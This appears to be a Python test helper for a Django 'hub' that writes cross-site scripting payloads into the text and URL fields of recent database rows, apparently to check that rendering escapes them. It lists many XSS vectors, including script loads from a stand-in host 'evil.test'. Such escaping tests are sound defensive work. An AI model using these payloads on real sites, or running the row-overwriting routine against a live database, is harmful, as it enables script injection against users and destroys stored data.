"""Scripts in disguise, in every text that people or networks can bring into the hub. Runs inside a hub."""

from collections.abc import Iterator
from itertools import cycle, islice, product
from typing import Any

from django.apps import apps
from django.db.models import CharField, Field, JSONField, Model, SlugField, TextField, URLField

from advocacy.lib.fields import EncryptedTextField

# How one comes out of where the text stands,
_OUT = ("", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "]]>", "</option></select>")
# and what one does then.
_THEN = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.test'</style>",
    "<b hx-get=/ hx-trigger=load hx-on:load=alert(1)>",
    "{{ constructor.constructor('alert(1)')() }}{% load static %}",
)
PAYLOADS = tuple(f"{out}{then}" for then, out in product(_THEN, _OUT))
# Addresses of other schemes never get this far: they are refused where they come in, each with its own test.
ADDRESSES = (
    "https://x.test/'onmouseover='alert(1)",
    'https://x.test/"onfocus="alert(1)" autofocus="',
    'https://x.test/"><script>alert(1)</script>',
    "https://x.test/'><img src=x onerror=alert(1)>",
    "https://x.test/?javascript:alert(1)",
    "https://x.test/#</script><svg onload=alert(1)>",
)
# What only the hub itself writes, and what it needs to find its way.
_OF_THE_HUB = {
    *("email", "password", "time_zone", "code", "item_code", "check_id", "once", "shape", "media_type"),
    *("host", "remote_id", "client_id", "redirect_uri", "record_key", "prepared", "broken_reason"),
    *("token_hash", "state_hash", "session_hash", "translates_digest", "scope"),
}
_ROWS = 150


def poison() -> list[str]:
    """Write them into the newest rows of every table; return the fields that now hold some."""
    poisoned = []
    for model in apps.get_models():
        fields = [field for field in model._meta.concrete_fields if _holds_words(field)]
        if not model.__module__.startswith("advocacy.") or model._meta.app_label == "operations":
            continue
        _poison_rows(model, fields)
        poisoned += [f"{model.__name__}.{field.name}" for field in fields]
    return poisoned


def _holds_words(field: "Field[Any, Any]") -> bool:
    if isinstance(field, EncryptedTextField | SlugField) or field.choices or field.name in _OF_THE_HUB:
        return False
    return isinstance(field, CharField | TextField | JSONField) and field.name not in {"language", "checks"}


def _poison_rows(model: type[Model], fields: "list[Field[Any, Any]]") -> None:
    if not fields:
        return
    payloads, addresses = cycle(PAYLOADS), cycle(ADDRESSES)
    for row in model._default_manager.order_by("-pk")[:_ROWS]:
        values = {
            field.attname: next(addresses)
            if isinstance(field, URLField)
            else _poisoned(getattr(row, field.attname), field.max_length or 2000, payloads)
            for field in fields
        }
        model._default_manager.filter(pk=row.pk).update(**values)


def _poisoned(value: object, room: int, payloads: Iterator[str]) -> object:
    """Return the value with payloads where its words were: as many as there is room for, a dozen at most."""
    if isinstance(value, dict):
        return {key: _poisoned(one, 200, payloads) if _is_text(key) else one for key, one in value.items()}
    if isinstance(value, list):
        return [_poisoned(one, 200, payloads) for one in value]
    if not isinstance(value, str):
        return value
    words = next(one for one in payloads if len(one) <= room)
    for one in islice(payloads, 12):
        words = f"{words} {one}" if len(words) + len(one) < room else words
    return words


def _is_text(key: str) -> bool:
    return key not in {"url", "image", "host", "id", "alarm", "platform"}
